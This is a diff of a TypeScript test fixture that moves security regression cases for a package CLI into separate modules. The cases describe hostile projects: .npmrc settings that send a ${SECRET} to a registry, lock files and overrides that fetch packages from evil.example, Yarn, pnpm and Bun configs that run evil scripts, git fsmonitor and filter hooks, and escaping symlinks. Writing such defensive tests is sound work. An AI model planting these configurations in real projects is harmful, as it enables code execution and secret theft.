@@ -1,42 +1,19 @@
-import { hashText } from '../../src/text/hash-text.js'
-import type { Tree } from '../folders.js'
 import type { Attack } from './attack.js'
+import { add, escapesProject, evil, journal, lock, locked, manifest, runs } from './project-parts.js'
+import { pnpmProjects } from './pnpm-projects.js'
+import { yarnProjects } from './yarn-projects.js'
+import { npmProjects } from './npm-projects.js'
+import { gitProjects } from './git-projects.js'
+import { linkProjects } from './link-projects.js'
 
-const add = ['add', 'card', '--no-install']
-const card = 'src/components/keyhook/screens/card.tsx'
-const journal = JSON.stringify({
-  journalVersion: 1,
-  command: 'update',
-  state: 'applying',
-  folders: [],
-  entries: [
-    { path: '/BESIDE/profile', before: 'evil', after: hashText('mine\n') },
-    { path: '/BESIDE/notes', before: undefined, after: hashText('mine\n') },
-  ],
-})
-
-const lock = (dir: string, files: Readonly<Record<string, object>> = {}, source = 'bundled'): Tree => ({
-  'keyhook.lock.json': JSON.stringify({
-    lockfileVersion: 1,
-    registry: { version: '1.0.0', source },
-    options: { dir, tsx: true },
-    items: { card: { version: '1.0.0', explicit: true } },
-    files,
-    packages: { added: [] },
-  }),
-})
-
-const locked = (path: string) => ({ item: 'card', base: hashText('mine\n'), version: '1.0.0', path })
-const evil = '#!/bin/sh\necho ran >> "$RAN"\nexit 0\n'
-const manifest = (more: object) => ({
-  'package.json': JSON.stringify({ name: 'host', dependencies: { react: '^19.0.0', tailwindcss: '^4.0.0' }, ...more }),
-})
 const alias = (components: string) => ({ 'components.json': JSON.stringify({ aliases: { components } }) })
-const install = ['add', 'card']
-const escapesProject = /lies outside the project/
-const runs = /run without an import/
 
 export const hostileProjects: readonly Attack[] = [
+  ...pnpmProjects,
+  ...yarnProjects,
+  ...npmProjects,
+  ...gitProjects,
+  ...linkProjects,
   {
     name: 'a journal in the tree, add',
     files: { '.keyhook/journal.json': journal },
@@ -58,16 +35,6 @@ export const hostileProjects: readonly Attack[] = [
     run: ['update', '--abort'],
     code: 1,
     message: /is part of the project/,
-  },
-  {
-    name: 'a journal that git tracks, where home is the project',
-    files: { 'STATE/keyhook/journals/JOURNAL.json': journal },
-    git: true,
-    env: { XDG_STATE_HOME: 'PROJECT/STATE' },
-    registry: {},
-    run: add,
-    code: 1,
-    message: /tracked by git/,
   },
   {
     name: 'a journal of this machine with paths outside the project',
@@ -180,62 +147,6 @@ export const hostileProjects: readonly Attack[] = [
     message: /constructor is not an item/,
   },
   {
-    name: 'a link as the folder of the copies',
-    links: { 'src/components/keyhook': '../../../beside' },
-    registry: {},
-    run: add,
-    code: 1,
-    message: escapesProject,
-  },
-  {
-    name: 'a link above the folder of the copies',
-    links: { 'src/components': '../../beside' },
-    registry: {},
-    run: add,
-    code: 1,
-    message: escapesProject,
-  },
-  {
-    name: 'a link instead of a copy',
-    links: { [card]: '../../../../../beside/new.tsx' },
-    registry: {},
-    run: add,
-    code: 1,
-    message: escapesProject,
-  },
-  {
-    name: 'a link instead of the lock',
-    links: { 'keyhook.lock.json': '../beside/new.json' },
-    registry: {},
-    run: add,
-    code: 1,
-    message: escapesProject,
-  },
-  {
-    name: 'a link at the temporary path of a copy',
-    links: { 'src/components/keyhook/screens/.card.tsx.keyhook': '../../../../../beside/profile' },
-    registry: {},
-    run: add,
-    code: 0,
-    message: /create/,
-  },
-  {
-    name: 'a link at the temporary path of the lock',
-    links: { '.keyhook.lock.json.keyhook': '../beside/profile' },
-    registry: {},
-    run: add,
-    code: 0,
-    message: /create/,
-  },
-  {
-    name: 'a link instead of .env.example',
-    links: { '.env.example': '../beside/new' },
-    registry: {},
-    run: ['init', '--yes', '--no-wire', '--no-install'],
-    code: 1,
-    message: escapesProject,
-  },
-  {
     name: 'an alias that leads outside',
     files: alias('../beside'),
     registry: {},
@@ -302,189 +213,11 @@ export const hostileProjects: readonly Attack[] = [
     message: /create/,
   },
   {
-    name: 'npm of the project in PATH',
-    files: { 'node_modules/.bin/npm': evil, 'bin/npm': evil },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /npm i --ignore-scripts --no-global --location=project/,
-  },
-  {
-    name: 'scripts of the project that run on install',
-    files: manifest({ scripts: { preinstall: 'echo ran > $RAN' } }),
-    registry: {},
-    run: install,
-    code: 0,
-    message: /npm i --ignore-scripts --no-global --location=project/,
-  },
-  {
-    name: 'settings of npm that send a variable',
-    files: { '.npmrc': 'registry=ADDRESS/${SECRET}\n' },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because \.npmrc sets registry/,
-  },
-  {
-    name: 'settings of npm that name a git',
-    files: { '.npmrc': 'fund=false\ngit = ./evil\n' },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because \.npmrc sets git/,
-  },
-  {
-    name: 'settings of npm without a value',
-    files: { ...manifest({ bin: { git: './evil.sh' } }), '.npmrc': 'fund=false\nglobal\n', 'evil.sh': evil },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because \.npmrc sets global/,
-  },
-  {
-    name: 'settings of npm whose name ends at a semicolon',
-    files: { '.npmrc': 'registry;=ADDRESS/\n' },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because \.npmrc sets registry/,
-  },
-  {
-    name: 'settings of Yarn above the project',
-    beside: { '../.yarnrc.yml': 'yarnPath: ./evil.cjs\n' },
-    files: { 'yarn.lock': '__metadata:\n  version: 8\n' },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because \.\.\/\.yarnrc\.yml sets yarnPath/,
-  },
-  {
-    name: 'a workspace that lists the project by a pattern of npm',
-    beside: { '../package.json': '{"workspaces":["{project,other}"]}' },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because a workspace has the pattern or link \{project,other\}/,
-  },
-  {
-    name: 'another package of the workspace with a program of Yarn',
-    beside: {
-      '../package.json': '{"workspaces":["project","other"]}',
-      '../yarn.lock': '__metadata:\n  version: 8\n',
-      '../other/package.json': '{"dependencies":{"x":"exec:./evil.cjs"}}',
-    },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because \.\.\/other\/package\.json requests exec:/,
-  },
-  {
-    name: 'a lock file with an escaped address of git',
-    files: {
-      'package-lock.json': '{"packages":{"node_modules/x":{"resolved":"\\u0067it+https://evil.example/x.git"}}}',
-    },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because package-lock\.json takes packages from git\+https:/,
-  },
-  {
-    name: 'settings of Yarn that name a program',
-    files: { '.yarnrc.yml': 'yarnPath: ./evil.cjs\n', 'yarn.lock': '__metadata:\n' },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because \.yarnrc\.yml sets yarnPath/,
-  },
-  {
-    name: 'settings of the first Yarn',
-    files: { '.yarnrc': 'yarn-path "./evil.js"\n', 'yarn.lock': '' },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because \.yarnrc is/,
-  },
-  {
-    name: 'a hook of pnpm',
-    files: { '.pnpmfile.cjs': 'x', 'pnpm-lock.yaml': '' },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because \.pnpmfile\.cjs/,
-  },
-  {
-    name: 'settings of pnpm that add packages to it',
-    files: { 'pnpm-workspace.yaml': 'packages:\n  - "."\nconfigDependencies:\n  evil: 1.0.0\n' },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because pnpm-workspace\.yaml sets configDependencies/,
-  },
-  {
-    name: 'settings of Bun',
-    files: { 'bunfig.toml': 'preload = ["./evil.ts"]\n', 'bun.lock': '{}' },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because bunfig\.toml/,
-  },
-  {
-    name: 'settings of Corepack',
-    files: { '.corepack.env': 'COREPACK_NPM_REGISTRY=ADDRESS\n' },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because \.corepack\.env/,
-  },
-  {
-    name: 'a package manager by its address',
-    files: manifest({ packageManager: 'yarn@https://evil.example/yarn.cjs' }),
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because package\.json requests/,
-  },
-  {
-    name: 'a dependency out of git',
-    files: manifest({ devDependencies: { x: 'git+ssh://git@evil.example/x.git' } }),
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because package\.json requests/,
-  },
-  {
-    name: 'an override with an address',
-    files: manifest({ overrides: { clsx: { x: 'https://evil.example/x.tgz' } } }),
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because package\.json requests/,
-  },
-  {
-    name: 'a file that npm would build',
-    files: { 'binding.gyp': '{}' },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because binding\.gyp/,
-  },
-  {
     name: 'the provider is not installed through settings of the project',
     files: { '.npmrc': 'script-shell=./evil\n' },
     run: ['dev', '--yes'],
     code: 3,
     message: /\.npmrc sets script-shell/,
-  },
-  {
-    name: 'a sandbox that git tracks',
-    files: {
-      'node_modules/@keyhook/sandbox/package.json': '{"bin":"evil.js"}',
-      'node_modules/@keyhook/sandbox/evil.js': "require('node:fs').writeFileSync(process.env.RAN, '!')",
-    },
-    git: true,
-    run: ['dev', '--yes'],
-    code: 3,
-    message: /tracked by git/,
   },
   {
     name: 'a formatter of the project',
@@ -505,30 +238,6 @@ export const hostileProjects: readonly Attack[] = [
     message: /up to date/,
   },
   {
-    name: 'a git that runs a program to watch files',
-    git: true,
-    files: { 'watch.sh': evil, 'GITCONFIG': '[core]\n\tfsmonitor = ./watch.sh\n' },
-    before: 'card is added',
-    registry: {},
-    run: ['update', '--no-install', '--allow-dirty'],
-    code: 0,
-    message: /up to date/,
-  },
-  {
-    name: 'a git that filters files',
-    git: true,
-    files: {
-      '.gitattributes': '*.tsx filter=evil\n',
-      'watch.sh': evil,
-      'GITCONFIG': '[filter "evil"]\n\tclean = ./watch.sh\n',
-    },
-    before: 'card is added',
-    registry: {},
-    run: ['update', '--no-install'],
-    code: 3,
-    message: /git filters/,
-  },
-  {
     name: 'a repository inside the repository',
     files: {
       'src/components/keyhook/HEAD': 'ref: refs/heads/main\n',
@@ -544,113 +253,12 @@ export const hostileProjects: readonly Attack[] = [
     message: /up to date/,
   },
   {
-    name: 'a registry to build whose output is a link',
-    files: {
-      'items.json':
-        '{"name":"x","homepage":"","items":[{"name":"core","title":"a","description":"a","categories":["a"],"entries":[]}]}',
-    },
-    links: { dist: '../beside' },
-    run: ['registry', 'build'],
-    code: 1,
-    message: /is a link/,
-  },
-  {
     name: 'escapes in the name of the project',
     files: { 'package.json': '{"name":"\\u001b]0;gone\\u0007\\u202e\\u009b2J"}' },
     registry: {},
     run: add,
     code: 6,
     message: /does not use React/,
-  },
-  {
-    name: 'settings of Yarn in another form of YAML',
-    files: { '.yarnrc.yml': '{ yarnPath: ./evil.cjs }\n', 'yarn.lock': '__metadata:\n' },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because \.yarnrc\.yml sets/,
-  },
-  {
-    name: 'settings of pnpm that are set in',
-    files: { 'pnpm-workspace.yaml': ' packages: ["."]\n pnpmfile: evil.cjs\n', 'pnpm-lock.yaml': '' },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because pnpm-workspace\.yaml (?:sets|is not)/,
-  },
-  {
-    name: 'a lock file with packages out of git',
-    files: { 'package-lock.json': '{"packages":{"node_modules/x":{"resolved":"git+ssh://git@evil.example/x.git#1"}}}' },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because package-lock\.json takes packages from git\+ssh:/,
-  },
-  {
-    name: 'a catalog of pnpm that requests an address',
-    files: {
-      'pnpm-workspace.yaml': 'packages: ["."]\ncatalogs:\n  ui:\n    "x": "https://evil.example/x.tgz" # a range\n',
-      'pnpm-lock.yaml': '',
-    },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because pnpm-workspace\.yaml requests https:\/\/evil\.example/,
-  },
-  {
-    name: 'a program that pnpm is configured by',
-    files: { ...manifest({ pnpm: { configDependencies: { evil: '1.0.0+sha512-abc' } } }), 'pnpm-lock.yaml': '' },
-    registry: {},
-    run: install,
-    code: 0,
-    message: /Not installed, because package\.json requests pnpm\.configDependencies/,
-  },
-  {
-    name: 'a lock file with a package outside the registry',
-    files: { 'package-lock.json': '{"packages":{"node_modules/x":{"resolved":"https:\\/\\/evil.example\\/x.tgz"}}}' },
-    registry: {},
-    run: install,
-    code: 0,
-    message:
-      /Not installed, because package-lock\.json takes packages from https:\/\/evil\.example\/x\.tgz\. If you trust it: npm i/,
-  },
-  {
-    name: 'a sandbox that is a tracked link',
-    files: {
-      'evil/package.json': '{"bin":"evil.js"}',
-      'evil/evil.js': "require('node:fs').writeFileSync(process.env.RAN, '!')",
-      'keyhook.config.mjs': '',
-    },
-    links: { 'node_modules/@keyhook/sandbox': '../../evil' },
-    git: true,
-    run: ['dev', '--yes'],
-    code: 3,
-    message: /tracked by git/,
-  },
-  {
-    name: 'packages that are a tracked link',
-    files: {
-      'evil/@keyhook/sandbox/package.json': '{"bin":"evil.js"}',
-      'evil/@keyhook/sandbox/evil.js': "require('node:fs').writeFileSync(process.env.RAN, '!')",
-      'keyhook.config.mjs': '',
-    },
-    links: { node_modules: 'evil' },
-    git: true,
-    run: ['dev', '--yes'],
-    code: 3,
-    message: /tracked by git/,
-  },
-  {
-    name: 'known registries that git tracks, where home is the project',
-    files: {
-      'CONFIG/keyhook/registries.json': '{"registries":{"ADDRESS":{"headers":{"X-A":"${SECRET}"}}}}',
-      ...lock('src/ui', {}, 'ADDRESS'),
-    },
-    git: true,
-    env: { XDG_CONFIG_HOME: 'PROJECT/CONFIG' },
-    run: ['list'],
-    code: 1,
-    message: /tracked by git/,
   },
   {
     name: 'an empty lock',
@@ -665,47 +273,5 @@ export const hostileProjects: readonly Attack[] = [
     run: ['info'],
     code: 6,
     message: /is not a JSON object/,
-  },
-  {
-    name: 'a link instead of a copy, whose text a diff would show',
-    links: { [card]: '../../../../../beside/profile' },
-    registry: {},
-    run: ['add', 'card', '--overwrite', '--dry-run', '--diff'],
-    code: 1,
-    message: escapesProject,
-  },
-  {
-    name: 'a link instead of a locked copy, whose text a diff would show',
-    files: lock('src/components/keyhook', {
-      'screens/card.tsx': { item: 'card', base: hashText('x'), version: '1.0.0' },
-    }),
-    links: { [card]: '../../../../../beside/profile' },
-    registry: {},
-    run: ['diff'],
-    code: 1,
-    message: escapesProject,
-  },
-  {
-    name: 'a link instead of .env.example, whose text a diff would show',
-    links: { '.env.example': '../beside/profile' },
-    registry: {},
-    run: ['init', '--no-wire', '--dry-run', '--diff'],
-    code: 1,
-    message: escapesProject,
-  },
-  {
-    name: 'a git that filters files of one worktree',
-    git: true,
-    files: {
-      '.gitattributes': '*.tsx filter=evil\n',
-      'watch.sh': evil,
-      'GITCONFIG': '[extensions]\n\tworktreeConfig = true\n[include]\n\tpath = ../more\n',
-      'more': '[filter "evil"]\n\tprocess = ./watch.sh\n',
-    },
-    before: 'card is added',
-    registry: {},
-    run: ['update', '--no-install'],
-    code: 3,
-    message: /git filters/,
   },
 ]
